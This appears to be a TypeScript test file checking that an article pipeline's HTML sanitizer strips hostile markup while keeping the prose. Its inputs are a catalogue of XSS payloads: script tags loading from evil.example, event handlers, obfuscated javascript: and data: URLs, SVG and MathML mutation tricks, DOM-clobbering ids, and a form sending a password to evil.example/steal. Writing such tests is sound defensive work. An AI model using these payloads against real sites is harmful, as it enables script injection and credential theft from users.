// Hostile markup through the whole pipeline: the dangerous part must be gone and the prose must stay.
import type { Element, Root, RootContent } from 'hast';
import { toJsxRuntime } from 'hast-util-to-jsx-runtime';
import { Fragment, jsx, jsxs } from 'react/jsx-runtime';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { renderArticleTree } from './pipeline';
import { articleSchema } from './schema';

function render(html: string): { html: string; tree: Root } {
  const { tree } = renderArticleTree(html);
  return { tree, html: renderToStaticMarkup(toJsxRuntime(tree, { Fragment, jsx, jsxs })) };
}

function elements(node: Root | Element): Element[] {
  return node.children.flatMap((child: RootContent) => (child.type === 'element' ? [child, ...elements(child)] : []));
}

/** Invariants that hold for any input, whatever slipped past the specific assertions. */
function expectSafe(tree: Root, html: string): void {
  for (const el of elements(tree)) {
    expect(articleSchema.tagNames, el.tagName).toContain(el.tagName);
    for (const [key, value] of Object.entries(el.properties)) {
      expect(key.toLowerCase().startsWith('on'), `${el.tagName}.${key}`).toBe(false);
      expect(['style', 'srcSet', '_src', 'dataSrc', 'name', 'xLinkHref', 'formAction', 'action']).not.toContain(key);
      if (key === 'href' || key === 'src' || key === 'cite') {
        expect(String(value), `${el.tagName}.${key}`).toMatch(/^(?:https?:\/\/|mailto:|\/(?![/\\])|#)/);
      }
      if (key === 'id') expect(String(value)).toMatch(/^user-content-/);
    }
  }
  expect(html).not.toMatch(
    /<(?:script|style|iframe|svg|math|object|embed|form|input|button|base|meta|link(?! rel="preload")|template|noscript)\b/i,
  );
  // Attribute checks on the markup itself (prose may mention "onerror=" as text; tags may not).
  // React rewrites a javascript: URL it is handed into one that still says "javascript:", so this
  // also catches anything the sanitizer let through to React.
  for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) {
    expect(tag).not.toMatch(/javascript:|vbscript:|data:| on[a-z]+=| style=|srcset=|xlink/i);
  }
}

describe('sanitizer: scripts', () => {
  it.each([
    '<p>正文</p><script>alert(1)</script>',
    '<p>正文</p><SCRIPT SRC="//evil.example/x.js"></SCRIPT>',
    '<p>正文<script type="module">import("//evil.example")</script></p>',
  ])('drops the script and its code: %s', (input) => {
    const { tree, html } = render(input);
    expectSafe(tree, html);
    expect(html).toContain('正文');
    expect(html).not.toMatch(/alert|import\(/);
  });
});

describe('sanitizer: text that looks like markup', () => {
  it('stays inert, escaped text', () => {
    const { tree, html } = render(
      '<p>正文</p><scr<script>ipt>alert(1)</script><p>&lt;img src=x onerror=alert(1)&gt;</p>',
    );
    expectSafe(tree, html);
    expect(html).toBe('<p>正文</p>ipt&gt;alert(1)<p>&lt;img src=x onerror=alert(1)&gt;</p>');
  });
});

describe('sanitizer: event handlers', () => {
  it.each([
    '<p onclick="alert(1)">正文</p>',
    '<img src="https://img.example-cdn.cn/a.jpg" onerror="alert(1)" onload="alert(2)">',
    '<a href="https://example.org" onmouseover="alert(1)">正文</a>',
    '<body onload="alert(1)"><p>正文</p></body>',
    '<details open ontoggle="alert(1)"><summary>正文</summary></details>',
    '<p><span onfocus="alert(1)" tabindex="0" autofocus>正文</span></p>',
  ])('removes handlers: %s', (input) => {
    const { tree, html } = render(input);
    expectSafe(tree, html);
    expect(html).not.toMatch(/alert|autofocus|tabindex/i);
  });
});

describe('sanitizer: javascript:, data: and vbscript: links in any spelling', () => {
  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    '&#0000106avascript:alert(1)',
    'java\tscript:alert(1)',
    'java&#x09;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'jav&#x0A;ascript:alert(1)',
    'javascript&colon;alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
  ])('removes the href but keeps the link text: %s', (href) => {
    const { tree, html } = render(`<p>请看<a href="${href.replace(/"/g, '&quot;')}">这里</a>。</p>`);
    expectSafe(tree, html);
    expect(html).toContain('请看<a>这里</a>。');
  });

  it('keeps ordinary links working', () => {
    const { html } = render(
      '<p><a href="/articles/a">站内</a><a href="https://example.org/">站外</a><a href="mailto:e@example.org">来信</a></p>',
    );
    expect(html).toContain('<a href="/articles/a">站内</a>');
    expect(html).toContain('href="https://example.org/"');
    expect(html).toContain('<a href="mailto:e@example.org">来信</a>');
  });

  it('drops hostile cite addresses on quotations', () => {
    const { tree, html } = render('<blockquote cite="javascript:alert(1)"><p>引文</p></blockquote>');
    expectSafe(tree, html);
    expect(html).toBe('<blockquote><p>引文</p></blockquote>');
  });
});

describe('sanitizer: hostile image sources', () => {
  it.each([
    '<img src="javascript:alert(1)">',
    '<img src="JAVASCRIPT:alert(1)">',
    '<img src="&#106;avascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img _src="javascript:alert(1)">',
    '<img data-src="data:text/html,<script>alert(1)</script>">',
    '<img src="x" srcset="javascript:alert(1) 1x, data:image/png,AA 2x">',
    '<picture><source srcset="javascript:alert(1)"><img src="vbscript:x"></picture>',
  ])('shows no picture at all: %s', (input) => {
    const { tree, html } = render(`<p>前</p>${input}<p>后</p>`);
    expectSafe(tree, html);
    expect(html).not.toMatch(/<img|srcset|<source|<picture/i);
    expect(html).toContain('<p>前</p><p>后</p>');
  });

  it('keeps a good source and drops the srcset beside it', () => {
    const { tree, html } = render('<img src="https://img.example-cdn.cn/a.jpg" srcset="javascript:alert(1) 2x">');
    expectSafe(tree, html);
    expect(html).toContain('src="https://img.example-cdn.cn/a.jpg"');
  });
});

describe('sanitizer: embedded documents, forms and styles', () => {
  it.each([
    ['<iframe src="https://evil.example"></iframe>', '<iframe'],
    ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', 'srcdoc'],
    ['<object data="https://evil.example/x.swf"><param name="x" value="y">后备文字</object>', 'evil'],
    ['<embed src="https://evil.example/x.swf">', 'evil'],
    [
      '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:alert(1)">登录</button></form>',
      'evil',
    ],
    ['<textarea>默认文字</textarea><select><option>选项</option></select>', '默认文字'],
    ['<style>body { display: none }</style>', 'display'],
    ['<p style="background: url(javascript:alert(1)); position: fixed">正文</p>', 'position'],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', 'evil'],
    ['<base href="https://evil.example/">', 'evil'],
    ['<meta http-equiv="refresh" content="0; url=https://evil.example">', 'evil'],
    ['<template><img src="x" onerror="alert(1)"></template>', 'alert'],
  ])('removes %s', (input, leftover) => {
    const { tree, html } = render(`<p>正文</p>${input}`);
    expectSafe(tree, html);
    expect(html).not.toContain(leftover);
    expect(html).toContain('正文');
  });

  it('keeps the readable text of a form but not its controls', () => {
    const { html } = render('<form><p>问卷说明</p><input value="x"><button>提交</button></form>');
    expect(html).toBe('<p>问卷说明</p>');
  });
});

describe('sanitizer: SVG, MathML and noscript tricks', () => {
  it.each([
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">点我</text></a></svg>',
    '<svg onload="alert(1)"><circle r="10"></circle></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg>',
    '<svg><foreignObject><img src="x" onerror="alert(1)"></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">点</maction></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ])('leaves nothing executable: %s', (input) => {
    const { tree, html } = render(`<p>正文</p>${input}`);
    expectSafe(tree, html);
    expect(html).not.toMatch(/alert|xlink|onerror/i);
    expect(html).toContain('<p>正文</p>');
  });
});

describe('sanitizer: DOM clobbering', () => {
  it('drops ids and names the source puts on its elements', () => {
    const { tree, html } = render(
      '<p id="__proto__">一</p><a name="cookie">二</a><img name="getElementById" src="/a.jpg"><div id="main-content"><p id="location">三</p></div>',
    );
    expectSafe(tree, html);
    expect(html).not.toMatch(/ id=| name=/);
    expect(html).toMatch(/一.*二.*三/);
  });

  it('prefixes every heading id, so no heading text can shadow a page global', () => {
    const { tree, html } = render('<h2 id="__next_f">__next_f</h2><h3 label="大标题">location</h3>');
    expectSafe(tree, html);
    expect(html).toContain('<h2 id="user-content-__next_f">__next_f</h2>');
    expect(html).toContain('<h2 id="user-content-location">location</h2>');
  });

  it('drops aria references to ids that could point anywhere on the page', () => {
    const { html } = render('<p aria-describedby="main-content" aria-labelledby="site-title">正文</p>');
    expect(html).toBe('<p>正文</p>');
  });
});

describe('sanitizer: the rest of the markup', () => {
  it('drops comments, including conditional ones', () => {
    const { html } = render('<p>正文</p><!-- 注释 --><!--[if IE]><script>alert(1)</script><![endif]-->');
    expect(html).toBe('<p>正文</p>');
  });

  it('keeps structure readers need: lists, tables, quotes, code and emphasis', () => {
    const input =
      '<ul><li>甲</li></ul><ol start="3"><li>乙</li></ol><blockquote><p>引</p></blockquote>' +
      '<table><thead><tr><th scope="col">列</th></tr></thead><tbody><tr><td colspan="2">格</td></tr></tbody></table>' +
      '<pre><code>const a = 1;</code></pre><p><strong>粗</strong><em>斜</em><sup>1</sup><del>删</del></p>';
    const { html } = render(input);
    expect(html).toBe(
      '<ul><li>甲</li></ul><ol start="3"><li>乙</li></ol><blockquote><p>引</p></blockquote>' +
        '<table><thead><tr><th scope="col">列</th></tr></thead><tbody><tr><td colSpan="2">格</td></tr></tbody></table>' +
        '<pre><code>const a = 1;</code></pre><p><strong>粗</strong><em>斜</em><sup>1</sup><del>删</del></p>',
    );
  });

  it('unwraps unknown elements but keeps their text', () => {
    const { html } = render(
      '<p><font color="red">红字</font><x-widget data-x="1">小部件</x-widget></p><center>居中</center>',
    );
    expect(html).toBe('<p>红字小部件</p>居中');
  });

  it('drops classes it does not know, keeping only the ones the components style', () => {
    const { html } = render('<p class="fixed inset-0 z-50 text-remarks-x">正文</p><span class="sr-only">隐</span>');
    expect(html).toBe('<p>正文</p><span>隐</span>');
  });
});
